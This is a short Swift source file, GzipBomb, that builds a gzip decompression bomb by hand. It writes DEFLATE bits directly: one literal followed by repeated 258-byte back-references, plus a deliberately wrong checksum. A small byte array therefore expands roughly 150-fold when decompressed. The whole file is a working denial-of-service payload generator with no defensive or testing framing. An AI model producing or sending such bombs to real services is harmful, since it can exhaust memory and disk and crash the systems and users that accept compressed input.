/// Bytes that stand for 150 times as many, without a library: one letter, and again and again a copy of the 258 before (RFC 1951 §3.2.6).
struct GzipBomb {
  private(set) var bytes: [UInt8] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]
  private var byte: UInt8 = 0
  private var count = 0

  /// A stream of 1 + 258 × `copies` letters; its checksum is wrong, for those who get that far.
  init(copies: Int) {
    write(0b110, 3)  // The last block, with the codes that everybody knows.
    write(0x30 + 0x61, 8)
    for _ in 0..<copies { write(0b1100_0101 << 5, 13) }
    write(0, 7)
    write(0, 7)
    bytes += [UInt8](repeating: 0, count: 8)
  }

  /// Writes bits, the highest first.
  private mutating func write(_ code: Int, _ length: Int) {
    for bit in (0..<length).reversed() {
      byte |= UInt8(code >> bit & 1) << count
      count += 1
      guard count == 8 else { continue }
      bytes.append(byte)
      (byte, count) = (0, 0)
    }
  }
}
